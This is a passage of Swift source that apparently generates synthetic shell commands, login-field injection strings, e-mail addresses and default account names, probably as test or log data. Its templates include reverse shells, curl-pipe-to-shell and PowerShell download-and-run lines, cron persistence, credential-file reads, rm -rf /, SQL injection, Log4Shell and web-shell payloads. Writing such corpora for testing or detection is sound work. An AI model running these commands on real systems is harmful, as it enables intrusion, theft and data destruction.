                (0.8, "-delete"), (0.8, "-print0 | xargs -0 \(random.pick(["rm", "grep -l foo", "ls -l", "du -ch", "tar czf out.tgz"]))"),
                (0.8, "| xargs \(random.pick(["rm -f", "grep -i error", "wc -l", "ls -la", "chmod 755"]))"),
                (0.5, "| wc -l"), (0.4, "-ls"),
            ]))
            return parts.filter { !$0.isEmpty }.joined(separator: " ")
        case 3, 4, 5:
            let flags = random.pick(["", "-r", "-i", "-n", "-v", "-l", "-c", "-E", "-o", "-w", "-rn", "-ri", "-il",
                                     "-rl", "-v -e", "-A 3", "-B 2", "-C 5", "-P", "-F", "-h", "-R", "--color=auto", "-iv"])
            return ["grep", flags, quoted(searchWord(&random), &random),
                    random.chance(0.8) ? path(&random) : ""].filter { !$0.isEmpty }.joined(separator: " ")
        case 6, 7:
            let a = searchWord(&random), b = random.pick(PasswordGrammar.words)
            let expr = random.pick(["s/\(a)/\(b)/g", "s/\(a)/\(b)/", "/\(a)/d", "\(n)d", "s/^/#/", "s/[[:space:]]*$//",
                                    "s/\\r//", "1d", "$d", "-n '\(n),\(n + 10)p'", "s/\\(.*\\)/\\1/"])
            let flags = random.pick(["", "-i", "-n", "-e", "-E", "-i.bak", "-r"])
            return ["sed", flags, expr.hasPrefix("-n") ? expr : quoted(expr, &random), random.chance(0.8) ? path(&random) : ""]
                .filter { !$0.isEmpty }.joined(separator: " ")
        case 8, 9:
            let body = random.pick(["{print $1}", "{print $2}", "{print $NF}", "{sum+=$1} END {print sum}", "NR==\(n)",
                                    "{print $1, $3}", "/\(random.pick(PasswordGrammar.words))/ {print}", "length > 80",
                                    "{ print $0 }", "!seen[$0]++", "{count[$1]++} END {for (k in count) print k, count[k]}",
                                    "NF", "{printf \"%s\\n\", $2}"])
            let flags = random.pick(["", "", "-F:", "-F','", "-F'\\t'", "-v OFS=,", "-F ' '"])
            return ["awk", flags, "'\(body)'", random.chance(0.7) ? path(&random) : ""].filter { !$0.isEmpty }.joined(separator: " ")
        case 10, 11:
            return "ls " + random.pick(["-l", "-la", "-lh", "-al", "-ltr", "-R", "-1", "-a", "-lS", "-d */", "-lart", "", "-lah"]) +
                " " + (random.chance(0.7) ? path(&random) : "")
        case 12, 13:
            return random.pick(["cat", "less", "more", "head", "tail", "tac", "nl", "wc -l", "wc -c", "file", "stat",
                                "md5sum", "sha256sum", "strings", "od -c", "xxd", "hexdump -C", "vi", "vim", "nano",
                                "tail -f", "head -n \(n)", "tail -n \(n)", "head -\(n)", "tail -\(n)", "sort", "uniq",
                                "du -sh", "wc -w", "base64 -d", "dos2unix", "readlink -f", "realpath", "basename",
                                "dirname", "touch", "rm", "rm -f", "rm -rf", "mkdir -p", "rmdir", "shred -u", "cat -n"]) +
                " " + path(&random)
        case 14:
            return random.pick(["cp", "cp -r", "cp -a", "mv", "mv -f", "ln -s", "ln -sf", "rsync -avz", "scp", "scp -r",
                                "install -m 755", "diff", "diff -u", "cmp", "comm -12", "paste", "join"]) +
                " " + path(&random) + " " + (random.chance(0.3) ? "\(user(&random))@\(host(&random)):" : "") + path(&random)
        case 15:
            return "chmod " + random.pick(["755", "644", "777", "+x", "-R 755", "u+x", "go-w", "600", "700", "4755", "a+r", "-R 777"]) +
                " " + path(&random)
        case 16:
            return "chown " + random.pick(["-R ", ""]) + "\(user(&random)):\(random.pick(["staff", "users", "root", "www-data", "admin"])) " + path(&random)
        case 17:
            return "tar " + random.pick(["-czvf", "-xzvf", "-xvf", "-cvf", "czf", "xzf", "-tvf", "-xjf", "-cjf", "-C /tmp -xzf", "--exclude='*.log' -czf"]) +
                " " + fileName(&random) + random.pick([".tar.gz", ".tgz", ".tar", ".tar.bz2"]) + " " + (random.chance(0.6) ? path(&random) : "")
        case 18:
            return random.pick(["sort", "sort -n", "sort -r", "sort -rn", "sort -u", "sort -k2", "sort -t: -k3 -n", "sort -nr -k1",
                                "uniq", "uniq -c", "uniq -d", "cut -d: -f1", "cut -d',' -f2", "cut -c1-10", "cut -f 2-",
                                "tr 'a-z' 'A-Z'", "tr -d '\\r'", "tr -s ' '", "tr '\\n' ' '", "head -1", "tail -1", "wc -l",
                                "column -t", "rev", "fold -w 80", "xargs", "xargs -n 1", "tee \(fileName(&random))", "sed 1d",
                                "paste -sd+ | bc", "awk '{print $1}'", "grep -v '^#'", "less", "more", "nl"]) +
                (random.chance(0.4) ? " " + path(&random) : "")
        case 19:
            return "echo " + random.weighted([
                (2.0, quoted(searchWord(&random), &random)), (1.0, "$\(random.pick(["PATH", "HOME", "USER", "SHELL", "PWD", "?", "$", "RANDOM", "HOSTNAME", "1"]))"),
                (1.0, "\"$(\(random.pick(["date", "whoami", "hostname", "pwd", "id -u", "uname -r"])))\""),
                (1.0, "\(searchWord(&random)) > \(path(&random))"), (0.5, "-e '\\x41\\x42'"), (0.5, "-n \(random.pick(PasswordGrammar.words))"),
            ])
        case 20:
            return random.pick(["ps aux", "ps -ef", "ps -p \(n * 97)", "ps axjf", "top -b -n 1", "htop", "pstree -p",
                                "kill -9 \(n * 131)", "kill \(n * 37)", "killall \(random.pick(["firefox", "java", "python", "nginx"]))",
                                "pkill -f \(random.pick(["node", "python", "java", "ssh"]))", "pgrep -f \(random.pick(["sshd", "cron", "java"]))",
                                "jobs", "bg", "fg %1", "nohup ./run.sh &", "nice -n 10 make", "time make", "watch -n 1 date",
                                "uptime", "free -m", "free -h", "vmstat 1 5", "iostat -x", "lsof -i :\(random.pick(["80", "22", "443", "8080"]))",
                                "lscpu", "lsblk", "lsusb", "lspci", "dmesg | tail", "journalctl -u \(random.pick(["sshd", "nginx", "docker"])) -f"])
        case 21:
            return random.pick(["df -h", "du -sh *", "du -h --max-depth=1", "mount", "umount /mnt", "mount -o loop disk.iso /mnt",
                                "fdisk -l", "mkfs.ext4 /dev/sdb1", "blkid", "dd if=/dev/zero of=\(fileName(&random)) bs=1M count=\(n)",
                                "dd if=/dev/sda of=/dev/sdb", "sync", "swapon -s", "losetup -a", "parted -l"])
        case 22, 23:
            let verb = random.pick(["wget", "wget -q", "wget -O -", "wget -qO-", "curl", "curl -s", "curl -O", "curl -sSL",
                                    "curl -fsSL", "curl -k", "curl -X POST -d 'a=b'", "curl -I", "curl -L -o out", "tftp -g -r x"])
            var s = "\(verb) \(url(&random))"
            if random.chance(0.4) { s += random.pick([" | sh", " | bash", " | sudo bash", " -O /tmp/x.sh", " > /tmp/a", " -o /tmp/run"]) }
            return s
        case 24:
            return random.pick(["ssh", "ssh -p 2222", "ssh -i key.pem", "ssh -L 8080:localhost:80", "sftp", "telnet", "ftp",
                                "ping -c 4", "ping", "traceroute", "nslookup", "dig", "dig +short", "host", "whois", "nmap -sS",
                                "nmap -p-", "nc -zv", "mtr"]) + " " + (random.chance(0.4) ? "\(user(&random))@" : "") + host(&random)
        case 25:
            return random.pick(["nc -lvnp \(random.pick(["4444", "1337", "9001", "8080"]))", "nc -e /bin/sh \(host(&random)) 4444",
                                "nc \(host(&random)) 4444 -e /bin/bash", "ncat --ssl \(host(&random)) 443",
                                "bash -i >& /dev/tcp/\(host(&random))/4444 0>&1", "sh -i >& /dev/udp/\(host(&random))/53 0>&1",
                                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc \(host(&random)) 1234 >/tmp/f",
                                "socat TCP:\(host(&random)):4444 EXEC:/bin/sh", "telnet \(host(&random)) 23 | /bin/bash"])
        case 26:
            return random.pick(["python", "python3", "python2"]) + " -c " + random.pick([
                "'import os; os.system(\"id\")'", "\"import pty;pty.spawn('/bin/bash')\"", "'print(1+1)'",
                "'import socket,subprocess,os;s=socket.socket()'", "\"__import__('os').system('ls')\"",
                "'import sys; print(sys.version)'", "'import http.server'", "-m http.server 8000", "'exec(input())'",
            ])
        case 27:
            return random.pick([
                "perl -e 'print \"hello\\n\"'", "perl -pi -e 's/foo/bar/g' \(fileName(&random))", "ruby -e 'puts 1'",
                "php -r 'system(\"id\");'", "node -e \"require('child_process').exec('id')\"", "lua -e 'os.execute(\"ls\")'",
                "perl -MIO -e '$p=fork'", "python setup.py install", "python3 \(fileName(&random)).py", "java -jar app.jar",
                "gcc -o \(random.pick(fileStems)) \(random.pick(fileStems)).c", "make && make install", "make clean", "./configure --prefix=/usr",
                "javac Main.java", "go build ./...", "cargo build --release", "npm install", "pip install -r requirements.txt",
            ])
        case 28:
            return random.pick([
                "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('\(url(&random))')\"",
                "powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", "powershell -ExecutionPolicy Bypass -File run.ps1",
                "cmd.exe /c whoami", "cmd /c dir C:\\Users", "cmd.exe /c net user \(user(&random)) P@ss /add",
                "net user", "net localgroup administrators", "ipconfig /all", "tasklist /v", "systeminfo",
                "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "certutil -urlcache -split -f \(url(&random))",
                "Invoke-WebRequest -Uri \(url(&random)) -OutFile C:\\Temp\\a.exe", "Get-Process | Stop-Process",
                "Get-ChildItem -Recurse C:\\Users", "Start-Process cmd.exe", "wmic process call create calc.exe",
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"", "bitsadmin /transfer job \(url(&random)) C:\\a.exe",
                "type C:\\Windows\\win.ini", "dir /s /b *.txt", "del /f /q C:\\Temp\\*", "schtasks /create /tn x /tr calc.exe /sc once",
            ])
        case 29:
            return random.pick(["sudo", "sudo -u \(user(&random))", "sudo -i", "su -c", "doas", "sudo -s", "sudo -E"]) + " " + simpleShort(&random)
        case 30:
            return random.pick(["bash -c", "sh -c", "/bin/sh -c", "/bin/bash -c", "zsh -c", "exec", "eval", "xargs -I{} sh -c"]) +
                " " + quoted(simpleShort(&random), &random)
        case 31:
            return random.pick(["systemctl restart", "systemctl status", "systemctl stop", "systemctl enable", "service",
                                "/etc/init.d/", "systemctl start"]) + " " + random.pick(["nginx", "apache2", "sshd", "mysql", "docker", "cron", "httpd", "postgresql"]) +
                (random.chance(0.2) ? " restart" : "")
        case 32:
            return random.pick(["apt-get install -y", "apt install", "sudo apt-get update &&", "yum install -y", "dnf install",
                                "pip install", "pip3 install --user", "npm install -g", "gem install", "brew install", "apk add",
                                "snap install", "apt-get remove --purge"]) + " " +
                random.pick(["curl", "wget", "vim", "git", "build-essential", "python3", "nmap", "netcat", "htop", "jq",
                             "requests", "numpy", "docker.io", "openssh-server", "tmux", "gcc", "make"])
        case 33:
            return random.pick(["git clone \(url(&random)).git", "git status", "git log --oneline | head", "git diff HEAD~1",
                                "git pull origin main", "git push -f", "git add . && git commit -m 'fix'", "git checkout -b dev",
                                "git reset --hard HEAD", "git stash", "git grep -n TODO", "git rev-parse HEAD"])
        case 34:
            return random.pick(["docker run -it --rm \(random.pick(["ubuntu", "alpine", "busybox", "nginx"])) sh",
                                "docker ps -a", "docker exec -it \(random.pick(["web", "db", "app"])) bash", "docker images",
                                "docker run -v /:/mnt --privileged alpine chroot /mnt sh", "docker rm -f $(docker ps -aq)",
                                "kubectl get pods -A", "kubectl exec -it pod -- /bin/sh", "kubectl delete pod \(random.pick(["web", "api"]))",
                                "docker-compose up -d", "kubectl logs -f deploy/api"])
        case 35:
            return random.pick(["crontab -l", "crontab -e", "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
                                "echo '*/5 * * * * curl \(url(&random)) | sh' >> /etc/crontab", "at now + 1 minute",
                                "export PATH=$PATH:/usr/local/bin", "export \(random.pick(["HISTFILE", "LD_PRELOAD", "JAVA_HOME", "EDITOR"]))=\(path(&random))",
                                "unset HISTFILE", "history -c", "source ~/.bashrc", ". ./env.sh", "alias ll='ls -la'", "env | sort",
                                "printenv", "set -x", "ulimit -n 4096", "umask 022", "shopt -s nullglob"])
        case 36:
            return random.pick(["useradd -m \(user(&random))", "userdel -r \(user(&random))", "usermod -aG sudo \(user(&random))",
                                "passwd \(user(&random))", "echo '\(user(&random)):x' | chpasswd", "groupadd dev", "id \(user(&random))",
                                "who", "w", "last", "lastlog", "whoami", "id", "groups", "getent passwd \(user(&random))",
                                "visudo", "chage -l \(user(&random))", "finger \(user(&random))"])
        case 37:
            return random.pick(["iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "iptables -F", "iptables -L -n -v",
                                "ufw allow 80/tcp", "ufw disable", "ip addr show", "ip route", "ip link set eth0 up",
                                "ifconfig eth0", "ifconfig -a", "netstat -tulpn", "netstat -an | grep LISTEN", "ss -tlnp",
                                "route -n", "arp -a", "tcpdump -i eth0 port 80", "tcpdump -nn -c 100 -w out.pcap", "hostname -I",
                                "nmcli dev status", "iwconfig"])
        case 38:
            return random.pick(["date", "date +%Y-%m-%d", "date +%s", "date -d yesterday", "cal", "uname -a", "uname -r",
                                "hostname", "hostnamectl", "lsb_release -a", "cat /etc/os-release", "arch", "nproc", "locale",
                                "timedatectl", "which \(random.pick(["python", "gcc", "java", "bash", "perl"]))",
                                "type \(random.pick(["ls", "cd", "echo"]))", "whereis \(random.pick(["ls", "gcc", "python"]))",
                                "man \(random.pick(["ls", "grep", "find", "tar", "ssh"]))", "pwd", "cd \(path(&random))", "cd ..",
                                "cd -", "clear", "exit", "logout", "reboot", "shutdown -h now", "init 0", "halt", "poweroff"])
        case 39:
            return random.pick(["mysql -u root -p", "mysql -u \(user(&random)) -p\(random.pick(PasswordGrammar.words)) -e 'show databases'",
                                "mysqldump -u root -p --all-databases > dump.sql", "psql -U postgres -c 'select 1'",
                                "sqlite3 \(fileName(&random)).db '.tables'", "redis-cli flushall", "mongo --eval 'db.dropDatabase()'",
                                "pg_dump mydb > backup.sql"])
        case 40:
            return random.pick(["seq 1 \(n)", "seq -w 1 \(n)", "yes | head -n \(n)", "sleep \(n)", "sleep 0.\(n)",
                                "printf '%s\\n' \(random.pick(PasswordGrammar.words))", "printf \"%05d\\n\" \(n)", "expr \(n) + \(n * 2)",
                                "echo $(( \(n) * 2 ))", "bc -l", "factor \(n * 7)", "shuf -n 1", "od -An -N2 -i /dev/urandom",
                                "openssl rand -hex 16", "openssl enc -aes-256-cbc -in \(fileName(&random)) -out \(fileName(&random)).enc",
                                "openssl s_client -connect \(host(&random)):443", "gpg -c \(fileName(&random))", "zip -r out.zip \(path(&random))",
                                "unzip \(fileName(&random)).zip", "gzip -9 \(fileName(&random))", "gunzip \(fileName(&random)).gz",
                                "bzip2 -d \(fileName(&random)).bz2", "xz -d \(fileName(&random)).xz", "split -l \(n * 100) \(fileName(&random))",
                                "rename 's/\\.txt$/.bak/' *.txt", "mktemp -d", "tee -a \(path(&random))", "screen -S work", "tmux attach -t 0"])
        case 41:
            // Loops and assignments.
            let v = random.pick(["f", "i", "file", "x", "line", "host", "d", "n"])
            return random.pick([
                "for \(v) in *\(random.pick([".txt", ".log", ".jpg", ".c", ""])); do \(random.pick(["echo $\(v)", "mv \"$\(v)\" \"$\(v).bak\"", "wc -l $\(v)", "gzip $\(v)", "cat $\(v)"])); done",
                "for \(v) in $(seq 1 \(n)); do \(random.pick(["echo $\(v)", "touch file$\(v)", "ping -c1 10.0.0.$\(v)", "sleep 1"])); done",
                "for \(v) in {1..\(n)}; do echo $\(v); done", "while true; do \(simpleShort(&random)); sleep 1; done",
                "while read \(v); do echo \"$\(v)\"; done < \(path(&random))", "cat \(path(&random)) | while read \(v); do \(simpleShort(&random)); done",
                "\(v.uppercased())=$(\(simpleShort(&random))); echo $\(v.uppercased())", "if [ -f \(path(&random)) ]; then \(simpleShort(&random)); fi",
                "[ -d \(path(&random)) ] && echo yes || echo no", "test -e \(path(&random)) && \(simpleShort(&random))",
                "until ping -c1 \(host(&random)); do sleep 5; done", "read -p 'Name: ' \(v)", "let \(v)=\(v)+1",
            ])
        case 42:
            return random.pick(["xargs -I {} cp {} /tmp", "xargs -0 rm", "xargs -n1 basename", "xargs -P 4 -n 1 gzip", "xargs grep -l main"]) +
                " < " + path(&random)
        case 43:
            return random.pick(["ls", "id", "whoami", "pwd", "uname", "ps", "env", "set", "w", "who", "date", "ifconfig",
                                "netstat", "hostname", "uptime", "history", "top", "dmesg", "lsmod", "mount", "df", "free",
                                "reboot", "sh", "bash", "/bin/sh", "/bin/bash", "cmd.exe", "powershell", "exit", "clear", "su",
                                "sudo su", "sudo -i", "sudo bash", "cat", "ls -la", "ls -l", "ps aux", "id;", "uname -a",
                                "cd /", "cd ~", "ls /", "cat flag.txt", "exec sh", "nc", "vi", "ll", "la"])
        default:
            return simpleShort(&random) + (random.chance(0.5) ? " " + path(&random) : "")
        }
    }

    /// A short command for nesting inside `sudo`, `bash -c`, `$(…)`, backticks.
    static func simpleShort(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (3.0, random.pick(["id", "whoami", "uname -a", "ls -la", "ls", "pwd", "hostname", "ps aux", "env", "date",
                               "cat /etc/passwd", "cat /etc/shadow", "ifconfig", "ip a", "netstat -an", "w", "uptime",
                               "rm -rf /", "rm -rf /*", "rm -rf ~", "reboot", "shutdown -h now", "sh", "/bin/sh", "bash",
                               "chmod +s /bin/bash", "cp /bin/sh /tmp/sh", "echo pwned", "touch /tmp/pwned",
                               "sleep 10", "ping -c 10 127.0.0.1", "nslookup example.com", "killall -9 sshd",
                               "apt update", "make", "ls -l /tmp", "du -sh .", "free -m", "df -h", "whoami;id"])),
            (1.0, "cat \(path(&random))"), (1.0, "rm -rf \(path(&random))"), (0.7, "wget \(url(&random))"),
            (0.7, "curl \(url(&random))"), (0.6, "curl \(url(&random)) | sh"), (0.5, "chmod 777 \(path(&random))"),
            (0.5, "ls \(path(&random))"), (0.5, "echo \(searchWord(&random)) > \(path(&random))"),
            (0.4, "tar xzf \(fileName(&random)).tgz"), (0.4, "mkdir -p \(path(&random))"),
        ])
    }

    /// A pipeline of one to four commands with optional redirection.
    static func pipeline(_ random: inout CorpusRandom) -> String {
        var parts = [simple(&random)]
        let extra = random.weighted([(5.0, 0), (4.0, 1), (2.0, 2), (0.7, 3)])
        for _ in 0..<extra {
            parts.append(random.pick(["grep \(quoted(searchWord(&random), &random))", "grep -v grep", "grep -i \(random.pick(PasswordGrammar.words))",
                                      "sort", "sort -n", "sort -rn", "sort -u", "uniq", "uniq -c", "head", "head -\(random.int(in: 1...20))",
                                      "tail -\(random.int(in: 1...20))", "wc -l", "awk '{print $\(random.int(in: 1...9))}'",
                                      "cut -d' ' -f\(random.int(in: 1...5))", "cut -d: -f1", "tr -d '\\n'", "xargs", "xargs rm -f",
                                      "sed 's/ //g'", "less", "more", "tee \(path(&random))", "sh", "bash", "column -t",
                                      "xargs -I {} echo {}", "base64", "base64 -d", "gzip > out.gz", "nc \(host(&random)) 9999",
                                      "sort | uniq -c | sort -nr", "awk -F: '{print $1}'", "xargs -n 1 echo"]))
        }
        var command = parts.joined(separator: random.chance(0.15) ? "|" : " | ")
        switch random.weighted([(6.0, 0), (1.0, 1), (0.8, 2), (0.6, 3), (0.5, 4), (0.4, 5)]) {
        case 1: command += " > \(path(&random))"
        case 2: command += " 2>/dev/null"
        case 3: command += " >> \(path(&random))"
        case 4: command += " 2>&1"
        case 5: command += " < \(path(&random))"
        default: break
        }
        return command
    }

    /// SQL-ish and other injections typed into a login field.
    static func injection(_ random: inout CorpusRandom) -> String {
        let quote = random.weighted([(4.0, "'"), (1.5, "\""), (1.0, ""), (0.5, "')"), (0.5, "\")")])
        let comment = random.pick(["--", "-- -", "#", "/*", "--+", ";--", ";#", ""])
        let table = random.pick(["users", "accounts", "admin", "members", "login", "customers", "information_schema.tables"])
        let who = random.weighted([(1.0, "admin"), (1.0, "root"), (1.0, Names.given(&random)), (1.0, "")])
        switch random.int(10) {
        case 0: return "\(who)\(quote) OR \(random.pick(["1=1", "'1'='1", "1", "true", "'a'='a", "2>1", "1=1 LIMIT 1"])) \(comment)"
        case 1: return "\(who)\(quote) \(comment)"
        case 2: return "\(who)\(quote); DROP TABLE \(table);\(comment)"
        case 3: return "\(quote) UNION SELECT \(random.pick(["username, password", "null, null", "1,2,3", "@@version", "user(), database()", "*"])) FROM \(table)\(comment)"
        case 4: return "\(who)\(quote) AND \(random.pick(["SLEEP(5)", "1=0", "1=1", "(SELECT COUNT(*) FROM \(table))>0", "BENCHMARK(1000000,MD5(1))"]))\(comment)"
        case 5: return "\(quote); WAITFOR DELAY '0:0:5'\(comment)"
        case 6: return "\(quote) or \(quote)\(quote)=\(quote)"
        case 7: return random.pick(["${jndi:ldap://\(host(&random))/a}", "${jndi:rmi://\(host(&random)):1099/x}", "{{7*7}}", "${7*7}",
                                    "<script>alert(1)</script>", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
                                    "%27%20OR%201%3D1--", "<?php system($_GET['c']); ?>", "*)(uid=*))(|(uid=*", "admin)(&)",
                                    "\\x00", "%00", "<img src=x onerror=alert(1)>", "() { :; }; /bin/bash -c 'id'"])
        case 8: return "\(who)\(quote) OR \(quote)\(random.int(10))\(quote)=\(quote)\(random.int(10))"
        default: return "1\(quote) ORDER BY \(random.int(in: 1...10))\(comment)"
        }
    }

    static func command(_ random: inout CorpusRandom) -> String {
        switch random.weighted([
            (38.0, 0), // pipelines
            (12.0, 1), // chains
            (12.0, 2), // injection into a prefix: ; | && ` $(
            (8.0, 3), // SQL-ish and other injections
            (6.0, 4), // wrapped in $(…) or backticks
            (24.0, 5), // single simple command
        ]) {
        case 0: return pipeline(&random)
        case 1:
            let op = random.pick([" ; ", "; ", " && ", " || ", ";", "&&", " & "])
            return [pipeline(&random), simple(&random)].joined(separator: op) + (random.chance(0.15) ? op + simpleShort(&random) : "")
        case 2:
            let prefix = random.weighted([(1.0, ""), (1.0, UsernameGrammar.username(&random)), (0.5, "admin"), (0.5, "root")])
            let op = random.pick(["; ", ";", " | ", "|", " && ", "&&", " || ", "\n", "%0a", "& "])
            return "\(prefix)\(op)\(simpleShort(&random))\(random.chance(0.2) ? random.pick([";", " #", " &", " ;#"]) : "")"
        case 3: return injection(&random)
        case 4:
            let inner = simpleShort(&random)
            let wrapped = random.chance(0.5) ? "$(\(inner))" : "`\(inner)`"
            return random.weighted([(1.0, wrapped), (1.0, "\(UsernameGrammar.username(&random))\(wrapped)"),
                                    (0.5, "echo \(wrapped)"), (0.5, "\(wrapped);")])
        default: return simple(&random)
        }
    }
}

private extension String {
    /// `*.txt` → `\*.txt` (an unquoted glob escaped for the shell).
    func replacingStar() -> String {
        var out = ""
        for c in self {
            if c == "*" { out += "\\*" } else { out.append(c) }
        }
        return out
    }
}

// MARK: - E-mail addresses

enum EmailGrammar {
    static let domainWords: [String] = [
        "mail", "post", "inbox", "web", "net", "corp", "tech", "cloud", "data", "soft", "logic", "works", "labs",
        "group", "global", "media", "link", "zone", "hub", "point", "star", "blue", "green", "red", "north", "south",
        "east", "west", "city", "metro", "first", "prime", "smart", "fast", "bright", "open", "secure", "home",
        "trade", "bank", "health", "energy", "school", "uni", "college", "law", "design", "studio", "shop", "store",
        "travel", "air", "sea", "sun", "moon", "river", "lake", "hill", "stone", "oak", "pine", "maple", "apex",
        "nova", "astro", "omni", "vita", "terra", "aqua", "alpha", "beta", "delta", "sigma", "omega", "quantum",
    ]
    static let tlds: [(Double, String)] = [
        (10.0, "com"), (3.0, "net"), (3.0, "org"), (1.5, "io"), (1.0, "co"), (1.0, "edu"), (0.5, "gov"), (1.0, "de"),
        (1.0, "co.uk"), (0.8, "fr"), (0.8, "es"), (0.7, "it"), (0.6, "nl"), (0.5, "ru"), (0.5, "jp"), (0.5, "cn"),
        (0.5, "in"), (0.5, "com.br"), (0.5, "ca"), (0.5, "com.au"), (0.4, "ch"), (0.4, "se"), (0.4, "pl"), (0.3, "mx"),
        (0.3, "info"), (0.3, "biz"), (0.3, "dev"), (0.3, "app"), (0.2, "us"), (0.2, "eu"), (0.2, "ac.uk"), (0.2, "local"),
    ]

    static func domain(_ random: inout CorpusRandom) -> String {
        let name: String = random.weighted([
            (3.0, random.pick(domainWords) + random.pick(domainWords)),
            (2.0, random.pick(domainWords)),
            (1.5, Names.surname(&random)),
            (1.0, random.pick(domainWords) + "-" + random.pick(domainWords)),
            (1.0, random.pick(["example", "test", "company", "acme", "contoso", "mycompany", "university", "localhost"])),
            (1.0, PasswordGrammar.baseWord(&random)),
            (0.5, random.pick(domainWords) + String(random.int(in: 1...365))),
        ])
        let sub = random.chance(0.15) ? random.pick(["mail.", "corp.", "us.", "eu.", "dept.", "cs.", "students.", "staff."]) : ""
        return "\(sub)\(name).\(random.weighted(tlds))"
    }

    static func email(_ random: inout CorpusRandom) -> String {
        let local: String = random.weighted([
            (6.0, UsernameGrammar.username(&random).replacingBackslash()),
            (1.5, PasswordGrammar.baseWord(&random) + (random.chance(0.5) ? String(random.int(in: 1...999)) : "")),
            (1.0, random.pick(["info", "contact", "support", "admin", "sales", "hr", "billing", "noreply", "no-reply",
                               "webmaster", "office", "help", "jobs", "abuse", "security", "it", "team", "hello"])),
            (0.8, Names.given(&random) + "+" + random.pick(["news", "shop", "spam", "work", "test", "1"])),
        ])
        var text = "\(local)@\(domain(&random))"
        switch random.weighted([(85.0, 0), (8.0, 1), (4.0, 2)]) {
        case 1: text = TextShape.capitalized(text)
        case 2: text = text.uppercased()
        default: break
        }
        return text
    }
}

private extension String {
    func replacingBackslash() -> String {
        guard let index = lastIndex(of: "\\") else { return self }
        return String(self[self.index(after: index)...])
    }
}

// MARK: - Service and default accounts

enum ServiceGrammar {
    /// Generic system, database, middleware, cloud-image and device account names: common
    /// knowledge of operating systems and software, written for the project.
    static let accounts: [String] = [
        // Unix and Linux system accounts
        "root", "daemon", "bin", "sys", "sync", "games", "man", "lp", "mail", "news", "uucp", "proxy", "www-data",
        "backup", "list", "irc", "gnats", "nobody", "systemd-network", "systemd-resolve", "systemd-timesync",
        "messagebus", "syslog", "sshd", "ntp", "chrony", "dbus", "avahi", "polkitd", "rpc", "rpcuser", "nfsnobody",
        "halt", "shutdown", "operator", "adm", "ftp", "tss", "dnsmasq", "postfix", "dovecot", "exim", "smmsp",
        "mailnull", "named", "bind", "squid", "haproxy", "apache", "httpd", "nginx", "lighttpd", "tomcat", "jetty",
        "wildfly", "jboss", "weblogic", "websphere", "glassfish", "www", "web", "webadmin", "webmaster", "hostmaster",
        "postmaster", "abuse", "noc", "security",
        // databases
        "postgres", "postgresql", "mysql", "mariadb", "oracle", "mssql", "sqlserver", "sa", "db2inst1", "db2fenc1",
        "db2admin", "informix", "sybase", "mongodb", "mongo", "redis", "memcache", "cassandra", "couchdb", "neo4j",
        "influxdb", "elastic", "elasticsearch", "kibana", "logstash", "solr", "hbase", "hadoop", "hdfs", "hive",
        "spark", "kafka", "zookeeper", "rabbitmq", "activemq", "dba", "dbadmin", "dbuser", "dbo", "sysdba",
        "SYS", "SYSTEM", "DBSNMP", "OUTLN", "SCOTT", "XDB", "MDSYS", "CTXSYS", "ORDSYS", "APEX_PUBLIC_USER",
        // operations, CI and cloud images
        "jenkins", "gitlab", "gitlab-runner", "git", "svn", "hudson", "bamboo", "teamcity", "ansible", "puppet",
        "chef", "salt", "vagrant", "terraform", "docker", "kube", "k8s", "nagios", "zabbix", "icinga", "prometheus",
        "grafana", "splunk", "graylog", "sonar", "nexus", "artifactory", "ubuntu", "debian", "centos", "fedora",
        "ec2-user", "azureuser", "admin", "administrator", "Administrator", "ADMIN", "pi", "vagrant", "core",
        "cloud-user", "opc", "bitnami", "openshift",
        // Windows
        "Guest", "DefaultAccount", "WDAGUtilityAccount", "krbtgt", "IUSR", "ASPNET", "LOCAL SERVICE",
        "NETWORK SERVICE", "NT AUTHORITY\\SYSTEM", "SYSTEM", "HomeGroupUser$", "MSSQLSERVER", "SQLAgent",
        // roles and defaults on appliances, applications and devices
        "guest", "test", "tester", "testuser", "demo", "user", "default", "public", "anonymous", "support",
        "service", "services", "manager", "supervisor", "superuser", "super", "sysadmin", "sysadm", "sysop",
        "netadmin", "netman", "network", "monitor", "readonly", "readwrite", "ro", "rw", "field", "maint",
        "maintenance", "tech", "technician", "engineer", "install", "installer", "setup", "debug", "diag", "factory",
        "console", "remote", "telnet", "ssh", "snmp", "cisco", "enable", "config", "master", "owner", "helpdesk",
        "auditor", "audit", "backupuser", "restore", "replication", "repl", "replicator", "deploy", "deployer",
        "release", "build", "builder", "ci", "cd", "bot", "robot", "automation", "scheduler", "batch", "cron",
        "agent", "daemon", "nobody", "nologin", "noreply", "system", "root", "toor", "admin1", "admin2", "user1",
        "test1", "test2", "guest1", "operator1", "sa1", "ftpuser", "ftpadmin", "sftp", "upload", "uploader",
        "mailer", "smtp", "pop", "imap", "ldap", "radius", "vpn", "proxyuser", "print", "printer", "scanner",
        "camera", "voip", "sip", "pbx", "asterisk", "freeswitch", "ups", "router", "switch", "firewall", "wifi",
    ]

    /// Functions, departments and system words that shared and device accounts are named after.
    static let functionWords: [String] = wordList("""
        accounting accounts finance sales marketing reception frontdesk client customer customers device devices
        viewer browser reader writer editor author tutor library status info information help login logon init boot
        startup recover restore update upgrade patch mount umount format poll trace locate query report reports
        fax modem dialup telecom tele conference conferencing meeting lobby kiosk display signage voicemail
        attendant owner demos games visitor trial eval training trainer internal external partner vendor contractor
        intern staff employee member users everyone world unix linux dos netware mainframe host terminal station
        workstation desktop laptop tablet gateway bridge router switch hub controller sensor meter panel plc scada
        hmi historian engineering production warehouse shipping receiving inventory purchasing payroll billing
        archive archiver cluster node master slave primary secondary standby replica mirror relay spooler printer
        operations ops support desk servicedesk oncall nightshift dayshift shift lab classroom student faculty
        """)

    /// Application and infrastructure words for generated service accounts.
    static let apps: [String] = [
        "web", "api", "app", "db", "sql", "mail", "smtp", "backup", "bkp", "batch", "etl", "report", "reports",
        "billing", "payroll", "crm", "erp", "hr", "sap", "ldap", "ad", "dns", "dhcp", "proxy", "cache", "queue",
